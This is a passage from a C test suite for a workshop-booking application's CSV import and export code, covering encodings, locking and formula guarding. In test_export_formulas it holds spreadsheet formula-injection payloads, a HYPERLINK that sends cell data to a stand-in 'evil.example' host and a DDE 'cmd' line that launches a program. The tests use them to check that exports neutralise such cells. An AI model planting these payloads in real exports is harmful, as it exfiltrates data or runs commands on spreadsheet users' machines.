  g_object_set (s, "capacity", 8, NULL);
  g_assert_true (atelier_store_add_session (f->store, s, NULL));
  g_object_set (c, "email", "zoe@example.org", NULL);
  g_assert_true (atelier_store_add_customer (f->store, c, NULL));
  r = atelier_registration_new (atelier_session_get_id (s), atelier_customer_get_id (c), 2);
  /* One of the party of two came. */
  g_object_set (r, "checked-in-at", g_date_time_to_unix (starts) + 300, "arrived", 1, NULL);
  g_assert_true (atelier_store_add_registration (f->store, r, NULL));

  csv = atelier_customer_book_export_attendance (f->store, atelier_session_get_id (s), NULL, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (csv->str, ==,
                   "Session,Start,Workshop,Customer ID,Customer,Email,Party,Attendance,Checked In,"
                   "Arrived\r\n"
                   "1,2025-03-14T18:30:00+01:00,Risotto,1,\"Zoé Martin, fille\",zoe@example.org,2,"
                   "partly-attended,2025-03-14T18:35:00+01:00,1\r\n");
  g_string_free (g_steal_pointer (&csv), TRUE);

  {
    g_autoptr(GDateTime) later = g_date_time_add_days (starts, 1);
    csv = atelier_customer_book_export_attendance (f->store, 0, later, NULL, &error);
    g_assert_no_error (error);
    g_assert_null (strstr (csv->str, "Risotto"));
  }
}

static char *
write_door_file (TestStore *f)
{
  char *path = g_build_filename (f->dir, "door.csv", NULL);

  g_assert_true (g_file_set_contents (path,
                                      "First name,Last name,Email\n"
                                      "Zoé,Martin,zoe@example.org\n"
                                      "Hugo,Moreau,hugo@example.org\n"
                                      "Léa,Lefèvre,lea@example.org\n", -1, NULL));
  return path;
}

static sqlite3 *
open_door (TestStore *f)
{
  sqlite3 *door = NULL;

  g_assert_cmpint (sqlite3_open (f->path, &door), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_exec (door, "BEGIN IMMEDIATE", NULL, NULL, NULL), ==, SQLITE_OK);
  return door;
}

/* Reading, checking and matching the rows take no write lock: a dry run
 * goes through while the door holds it. */
static void
test_import_reads_beside_door (TestStore *f, gconstpointer data)
{
  g_autofree char *path = write_door_file (f);
  g_autoptr(AtelierCustomerImport) import = atelier_customer_import_new_for_path (path, NULL);
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(GError) error = NULL;
  sqlite3 *door = open_door (f);

  g_assert_true (atelier_customer_import_run (import, f->store, TRUE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->n_created, ==, 3);
  g_assert_cmpint (sqlite3_exec (door, "ROLLBACK", NULL, NULL, NULL), ==, SQLITE_OK);
  sqlite3_close (door);
}

static gpointer
import_in_thread (gpointer data)
{
  const char *const *paths = data;
  g_autoptr(AtelierStore) store = atelier_store_open (paths[0], NULL);
  g_autoptr(AtelierCustomerImport) import = atelier_customer_import_new_for_path (paths[1], NULL);
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(GError) error = NULL;

  g_assert_true (atelier_customer_import_run (import, store, FALSE, &report, &error));
  g_assert_no_error (error);
  return NULL;
}

/* A customer the door adds while an import is staged is matched when
 * the import applies: the run starts again rather than create a second
 * customer with the same address. */
static void
test_import_door_commits_meanwhile (TestStore *f, gconstpointer data)
{
  g_autofree char *path = write_door_file (f);
  const char *paths[] = { f->path, path };
  sqlite3 *door = open_door (f);
  GThread *thread = g_thread_new ("import", import_in_thread, paths);

  g_assert_cmpint (sqlite3_exec (door,
                                 "INSERT INTO customers (given_name, family_name, email, created_at)"
                                 " VALUES ('Zoé', 'M.', 'ZOE@example.org', 1700000000);"
                                 "COMMIT", NULL, NULL, NULL), ==, SQLITE_OK);
  sqlite3_close (door);
  g_thread_join (thread);

  g_assert_cmpstr (test_query_text (f->store, "SELECT count (*) FROM customers"), ==, "3");
  g_assert_cmpstr (test_query_text (f->store, "SELECT family_name FROM customers"
                                              " WHERE email = 'ZOE@example.org'"), ==, "Martin");
}

static void
assert_no_formula_cell (GString *csv)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(AtelierCsvTable) table = atelier_csv_table_parse (csv->str, csv->len, ',', &error);

  g_assert_no_error (error);
  for (guint row = 0; row < atelier_csv_table_get_n_rows (table); row++)
    for (const char * const *cell = atelier_csv_table_get_row (table, row); *cell != NULL; cell++)
      if (**cell != '\0' && strchr ("=+-@\t\r", **cell) != NULL)
        g_error ("Row %u has a cell a spreadsheet would run: %s", row, *cell);
}

/* Cells that a spreadsheet would run as formulas are written after a
 * quote, in both exports, and an import of the export reads them back
 * as they were. */
static void
test_export_formulas (TestStore *f, gconstpointer data)
{
  static const char *const names[] = {
    "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"click\")", "+cmd|' /C calc'!A0",
    "@SUM(1+1)", "-2+3",
  };
  g_autoptr(AtelierWorkshop) w = atelier_workshop_new ("=1+2");
  g_autoptr(GDateTime) starts = g_date_time_new_utc (2025, 3, 14, 17, 30, 0);
  g_autoptr(GDateTime) ends = g_date_time_add_hours (starts, 2);
  g_autoptr(AtelierSession) s = NULL;
  g_autoptr(GString) customers = NULL;
  g_autoptr(GString) attendance = NULL;
  g_autofree char *path = g_build_filename (f->dir, "customers.csv", NULL);
  g_autofree char *other_path = g_build_filename (f->dir, "other.db", NULL);
  g_autoptr(AtelierStore) other = NULL;
  g_autoptr(AtelierCustomerImport) import = NULL;
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(GString) again = NULL;
  g_autoptr(GError) error = NULL;

  g_object_set (w, "capacity", 8, NULL);
  g_assert_true (atelier_store_add_workshop (f->store, w, NULL));
  s = atelier_session_new (atelier_workshop_get_id (w), starts, ends, "Europe/Paris");
  g_object_set (s, "capacity", 8, NULL);
  g_assert_true (atelier_store_add_session (f->store, s, NULL));
  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_autoptr(AtelierCustomer) c = atelier_customer_new (names[i], "");
      g_autoptr(AtelierRegistration) r = NULL;
      g_autofree char *email = g_strdup_printf ("person%u@example.org", i);

      g_object_set (c, "email", email, "phone", "+33 6 12 34 56 78",
                    "note", i == 0 ? "-1" : "=2*3", NULL);
      g_assert_true (atelier_store_add_customer (f->store, c, NULL));
      r = atelier_registration_new (atelier_session_get_id (s), atelier_customer_get_id (c), 1);
      g_assert_true (atelier_store_add_registration (f->store, r, NULL));
    }

  customers = atelier_customer_book_export_csv (f->store, &error);
  g_assert_no_error (error);
  assert_no_formula_cell (customers);
  g_assert_nonnull (strstr (customers->str, "\"'@SUM(1+1)\""));
  g_assert_nonnull (strstr (customers->str, "\"'+33 6 12 34 56 78\""));
  attendance = atelier_customer_book_export_attendance (f->store, 0, NULL, NULL, &error);
  g_assert_no_error (error);
  assert_no_formula_cell (attendance);
  g_assert_nonnull (strstr (attendance->str, "\"'=1+2\""));

  g_assert_true (atelier_csv_write_file (path, customers, FALSE, &error));
  other = atelier_store_open (other_path, &error);
  g_assert_no_error (error);
  import = atelier_customer_import_new_for_path (path, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (atelier_customer_import_get_value (import, 3, 1), ==, "-2+3");
  g_assert_true (atelier_customer_import_run (import, other, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->n_created, ==, G_N_ELEMENTS (names));
  again = atelier_customer_book_export_csv (other, &error);
  g_assert_no_error (error);
  g_assert_cmpstr (again->str, ==, customers->str);
}

/* A tab or a carriage return in front of a formula is guarded too. */
static void
test_csv_guards_blanks (void)
{
  const char *fields[] = { "\t=1+2", "\r=1+2", "ok", "'=quoted", "'@", "a-b", "'kept" };
  g_autoptr(GString) out = g_string_new (NULL);
  g_autoptr(AtelierCsvTable) table = NULL;

  atelier_csv_append_row (out, fields, G_N_ELEMENTS (fields), ',');
  g_assert_cmpstr (out->str, ==, "\"'\t=1+2\",\"'\r=1+2\",ok,\"''=quoted\",\"''@\",a-b,'kept\r\n");
  g_assert_cmpstr (atelier_csv_unguard_field ("'\t=1+2"), ==, "\t=1+2");
  g_assert_cmpstr (atelier_csv_unguard_field ("'kept"), ==, "'kept");
  g_assert_cmpstr (atelier_csv_unguard_field ("O'Neil"), ==, "O'Neil");

  /* Whatever a cell holds, it reads back as itself (found by fuzz-csv:
   * a cell "'@" lost its quote, a first cell starting with U+FEFF was
   * read as the file's byte-order mark). */
  {
    const char *bom[] = { "\xef\xbb\xbfname" };
    g_autoptr(GString) alone = g_string_new (NULL);
    g_autoptr(AtelierCsvTable) again = NULL;

    atelier_csv_append_row (alone, bom, 1, ',');
    again = atelier_csv_table_parse (alone->str, alone->len, ',', NULL);
    g_assert_nonnull (again);
    g_assert_cmpstr (atelier_csv_table_get_row (again, 0)[0], ==, bom[0]);
  }
  table = atelier_csv_table_parse (out->str, out->len, ',', NULL);
  g_assert_nonnull (table);
  for (guint i = 0; i < G_N_ELEMENTS (fields); i++)
    g_assert_cmpstr (atelier_csv_unguard_field (atelier_csv_table_get_row (table, 0)[i]), ==, fields[i]);
}

static gint64
temp_store (TestStore *f)
{
  AtelierDbStmt *stmt = atelier_store_prepare (f->store, "PRAGMA temp_store", NULL);
  gint64 value;

  g_assert_nonnull (stmt);
  g_assert_cmpint (atelier_db_stmt_step (stmt, NULL), ==, ATELIER_DB_STEP_ROW);
  value = atelier_db_stmt_column_int64 (stmt, 0);
  atelier_db_stmt_reset (stmt);
  return value;
}

/* A file is read row by row: only the first rows are kept, for the
 * preview, and the run reads the file again; a later row with the
 * address of a customer the file creates (in another case) still
 * updates that customer, and each row keeps its line. */
static void
test_import_large_file (TestStore *f, gconstpointer data)
{
  g_autoptr(GString) csv = g_string_new ("First Name,Last Name,Email,Note\r\n");
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(AtelierCustomerImport) import = NULL;
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(GError) error = NULL;
  const AtelierImportEntry *first, *again, *last;
  gint64 before = temp_store (f);
  guint n = ATELIER_IMPORT_PREVIEW_ROWS * 3;

  /* Row 10 has a note on two lines: every later row starts a line further. */
  for (guint i = 0; i < n; i++)
    g_string_append_printf (csv, "Given%u,Family%u,person%u@example.org,%s\r\n", i, i, i,
                            i == 10 ? "\"two\r\nlines\"" : "");
  g_string_append (csv, "Given20,Again,PERSON20@Example.org,\r\n");
  bytes = g_bytes_new (csv->str, csv->len);
  import = atelier_customer_import_new (bytes, &error);
  g_assert_no_error (error);

  g_assert_cmpuint (atelier_customer_import_get_n_rows (import), ==, n + 1);
  g_assert_cmpuint (atelier_customer_import_get_n_preview_rows (import), ==, ATELIER_IMPORT_PREVIEW_ROWS);
  g_assert_cmpstr (atelier_customer_import_get_value (import, ATELIER_IMPORT_PREVIEW_ROWS - 1, 0), ==,
                   "Given99");
  g_assert_cmpuint (atelier_customer_import_get_line (import, ATELIER_IMPORT_PREVIEW_ROWS - 1), ==,
                    ATELIER_IMPORT_PREVIEW_ROWS + 2);

  report = run_import (f, import, FALSE);
  g_assert_cmpuint (report->n_created, ==, n);
  g_assert_cmpuint (report->n_updated, ==, 1);
  g_assert_cmpuint (report->n_rejected, ==, 0);
  g_assert_cmpuint (count_customers (f), ==, n);

  first = g_ptr_array_index (report->entries, 20);
  again = g_ptr_array_index (report->entries, n);
  g_assert_cmpint (first->outcome, ==, ATELIER_IMPORT_CREATED);
  g_assert_cmpint (again->outcome, ==, ATELIER_IMPORT_UPDATED);
  g_assert_cmpint (again->customer_id, ==, first->customer_id);
  g_assert_cmpuint (first->line, ==, 23);
  last = g_ptr_array_index (report->entries, n - 1);
  g_assert_cmpuint (last->line, ==, n + 2);
  g_assert_cmpuint (again->line, ==, n + 3);
  {
    g_autoptr(AtelierCustomer) customer = atelier_store_get_customer (f->store, first->customer_id, NULL);

    g_assert_cmpstr (atelier_customer_get_family_name (customer), ==, "Again");
  }

  /* The staging went to a temporary file for the run only. */
  g_assert_cmpint (temp_store (f), ==, before);
}

int
main (int argc, char **argv)
{
  test_init (&argc, &argv);

  g_test_add_func ("/atelier/import/guess-headers", test_guess_headers);
  g_test_add_func ("/atelier/import/csv-errors", test_csv_errors);
  g_test_add_func ("/atelier/import/csv-writing", test_csv_writing);
  g_test_add ("/atelier/import/comma", TestStore, NULL, test_store_setup,
              test_import_comma, test_store_teardown);
  g_test_add ("/atelier/import/semicolon-bom", TestStore, NULL, test_store_setup,
              test_import_semicolon_bom, test_store_teardown);
  g_test_add ("/atelier/import/tab", TestStore, NULL, test_store_setup,
              test_import_tab, test_store_teardown);
  g_test_add ("/atelier/import/windows-1252", TestStore, NULL, test_store_setup,
              test_import_windows_1252, test_store_teardown);
  g_test_add ("/atelier/import/quoted-newlines", TestStore, NULL, test_store_setup,
              test_import_quoted_newlines, test_store_teardown);
  g_test_add ("/atelier/import/missing-columns", TestStore, NULL, test_store_setup,
              test_import_missing_columns, test_store_teardown);
  g_test_add ("/atelier/import/bad-row", TestStore, NULL, test_store_setup,
              test_import_bad_row, test_store_teardown);
  g_test_add ("/atelier/import/updates-by-email", TestStore, NULL, test_store_setup,
              test_import_updates_by_email, test_store_teardown);
  g_test_add ("/atelier/import/same-address-twice", TestStore, NULL, test_store_setup,
              test_import_same_address_twice, test_store_teardown);
  g_test_add ("/atelier/import/dates", TestStore, NULL, test_store_setup,
              test_import_dates, test_store_teardown);
  g_test_add ("/atelier/import/search-index", TestStore, NULL, test_store_setup,
              test_import_search_index, test_store_teardown);
  g_test_add ("/atelier/import/store-refuses-row", TestStore, NULL, test_store_setup,
              test_import_store_refuses_row, test_store_teardown);
  g_test_add ("/atelier/import/export-round-trip", TestStore, NULL, test_store_setup,
              test_export_round_trip, test_store_teardown);
  g_test_add ("/atelier/import/export-attendance", TestStore, NULL, test_store_setup,
              test_export_attendance, test_store_teardown);
  g_test_add ("/atelier/import/export-formulas", TestStore, NULL, test_store_setup,
              test_export_formulas, test_store_teardown);
  g_test_add_func ("/atelier/import/csv-guards-blanks", test_csv_guards_blanks);
  g_test_add ("/atelier/import/reads-beside-door", TestStore, NULL, test_store_setup,
              test_import_reads_beside_door, test_store_teardown);
  g_test_add ("/atelier/import/large-file", TestStore, NULL, test_store_setup,
              test_import_large_file, test_store_teardown);
  g_test_add ("/atelier/import/door-commits-meanwhile", TestStore, NULL, test_store_setup,
              test_import_door_commits_meanwhile, test_store_teardown);

  return g_test_run ();
}
